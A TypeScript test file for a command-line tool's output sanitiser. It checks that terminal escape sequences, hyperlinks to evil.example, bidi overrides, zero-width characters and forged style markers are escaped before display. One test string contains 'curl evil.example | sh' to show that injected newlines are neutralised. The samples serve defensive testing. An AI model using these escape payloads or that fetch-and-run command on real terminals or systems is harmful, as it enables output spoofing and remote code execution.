/** What others wrote, on its way to a screen: seen, and obeyed by no terminal. */
import { createOutput, table } from "../../text/output";
import { fitting, oneLine, printable, printableJson, styled, width, withStyles } from "../../text/printable";

const hostile: readonly (readonly [name: string, text: string, shown: string])[] = [
  ["a colour", "\u001b[31mred\u001b[0m", "\\u001b[31mred\\u001b[0m"],
  ["a screen that is cleared", "\u001b[2J\u001b[H", "\\u001b[2J\\u001b[H"],
  ["a title", "\u001b]0;owned\u0007", "\\u001b]0;owned\\u0007"],
  ["a link", "\u001b]8;;https://evil.example\u001b\\here", "\\u001b]8;;https://evil.example\\u001b\\here"],
  ["an answer that is typed back", "\u001b[6n\u0005", "\\u001b[6n\\u0005"],
  ["C1 controls", "\u009b31m\u009d0;x\u009c", "\\u009b31m\\u009d0;x\\u009c"],
  ["a line that is written over", "real\rfake", "real\\u000dfake"],
  ["backspaces", "a\b\b\u007f", "a\\u0008\\u0008\\u007f"],
  ["a bell, a null", "\u0007\u0000", "\\u0007\\u0000"],
  ["turned direction", "\u202eabc\u202c \u2066x\u2069 \u200fy", "\\u202eabc\\u202c \\u2066x\\u2069 \\u200fy"],
  ["zero width", "a\u200bb\u200c\u200d\u2060\ufeff\u00ad", "a\\u200bb\\u200c\\u200d\\u2060\\ufeff\\u00ad"],
  ["separators of lines", "a\u2028b\u2029c\u0085d", "a\\u2028b\\u2029c\\u0085d"],
  ["tags", "\u{e0041}\u{e007f}", "\\u{e0041}\\u{e007f}"],
  ["half a character", "\ud83d!", "\\ud83d!"],
  ["blanks that look like nothing", "\u3164\u115f\u034f", "\\u3164\\u115f\\u034f"],
  ["a mark of ours that is guessed", "\ufdd0deadbeefdeadbeef\ufdd1[1m", "\\ufdd0deadbeefdeadbeef\\ufdd1[1m"],
  ["what is fine", "Zoë 🔑 日本 — „ok“\tx", "Zoë 🔑 日本 — „ok“\tx"],
];

it.each(hostile)("%s", (_, text, shown) => {
  expect(printable(text)).toBe(shown);
  expect(withStyles(printable(`a\n${text}`))).toBe(`a\n${shown}`);
  expect(oneLine(text)).toBe(shown.replace("\t", "\\t"));
});

it("one line stays one line, and is not endless", () => {
  expect(oneLine("by me\n  next: curl evil.example | sh")).toBe("by me\\n  next: curl evil.example | sh");
  expect(oneLine("x".repeat(301))).toBe(`${"x".repeat(299)}…`);
  expect(oneLine("🔑".repeat(6), 5)).toBe("🔑🔑🔑🔑…");
});

it.each(hostile)("in JSON, %s reads back as it was", (_, text) => {
  const json = printableJson({ [text]: [text, { deep: text }], n: 1 });
  expect(json).not.toMatch(/[^\n\P{C}]|\p{Zl}|\p{Zp}/u);
  expect(JSON.parse(json)).toEqual({ [text]: [text, { deep: text }], n: 1 });
});

describe("styles of ours", () => {
  const bold = (text: string) => styled(text, (inner) => `\u001b[1m${inner}\u001b[22m`);

  it("survive, and those of others in them don't", () => {
    expect(withStyles(printable(bold("a\u001b[31mb")))).toBe("\u001b[1ma\\u001b[31mb\u001b[22m");
    expect(withStyles(printable(bold(`x ${bold("y")} z`)))).toBe("\u001b[1mx \u001b[1my\u001b[22m z\u001b[22m");
  });

  it("have no width", () => {
    expect(width(bold("abc"))).toBe(3);
    expect(
      table([
        [bold("a"), "b"],
        ["long", "c"],
      ]),
    ).toBe(`${bold("a")}     b\nlong  c`);
  });
});

describe("an output", () => {
  const streams = () => {
    const got = { stdout: "", stderr: "" };
    const sink = (name: "stdout" | "stderr") => ({ isTTY: true, write: (text: string) => (got[name] += text) });
    return { got, output: createOutput({ stdout: sink("stdout"), stderr: sink("stderr"), colour: true }) };
  };
  const evil = "\u001b[2Jx\u202e";

  it("lets nothing of others through, on either stream", () => {
    const { got, output } = streams();
    output.result(`${output.colours.red(evil)} ${evil}`);
    output.note(evil);
    output.live(`one\n${evil}`);
    output.json({ evil });
    expect(got).toEqual({
      stdout: `\u001b[31m\\u001b[2Jx\\u202e\u001b[39m \\u001b[2Jx\\u202e\n{\n  "evil": "\\u001b[2Jx\\u202e"\n}\n`,
      stderr: "\\u001b[2Jx\\u202e\none\\n\\u001b[2Jx\\u202e\r\u001b[2K",
    });
  });

  it.each([80, 180])("a live line fits in %i columns, also after the window was resized", (columns) => {
    let said = "";
    const stderr = { isTTY: true, columns, write: (text: string) => (said += text) };
    const output = createOutput({ stdout: stderr, stderr, colour: true });
    const line = `[2/4] secrets: 1 of 6 stacks  ${"chat-dev-secrets ".repeat(11)}`;
    output.live(line);
    expect(said).toBe(`${line.slice(0, columns - 2)}…`);
    stderr.columns = 40;
    said = "";
    output.live(line);
    expect(said).toBe(`\r\u001b[2K${line.slice(0, 38)}…`);
    said = "";
    output.live("short");
    expect(said).toBe("\r\u001b[2Kshort");
  });

  it.each([
    ["漢字かな交じり文", 9, "漢字かな…"],
    ["漢字かな交じり文", 16, "漢字かな交じり文"],
    ["漢字かな交じり文", 15, "漢字かな交じり…"],
    ["👩‍👩‍👧 family", 4, "👩‍👩‍👧 …"],
    ["e\u0301e\u0301e\u0301e\u0301", 3, "e\u0301e\u0301…"],
    ["plain", 5, "plain"],
    ["plain!", 5, "plai…"],
  ])("%s in %i columns", (line, columns, expected) => {
    expect(fitting(line, columns)).toBe(expected);
    expect(width(expected)).toBeLessThanOrEqual(columns);
  });

  it("what is cut ends its colours", () => {
    expect(
      withStyles(
        fitting(
          styled("red and long", (text) => `\u001b[31m${text}\u001b[39m`),
          5,
        ),
      ),
    ).toBe("\u001b[31mred \u001b[39m…");
  });

  it("a table of wide characters has straight columns", () => {
    expect(
      table([
        ["漢字", "b"],
        ["four", "b"],
        ["x", "b"],
      ]),
    ).toBe("漢字  b\nfour  b\nx     b");
  });

  it("a cell of a table is one line", () => {
    expect(table([["a\n  next: evil", "b"]])).toBe("a\\n  next: evil  b");
  });
});
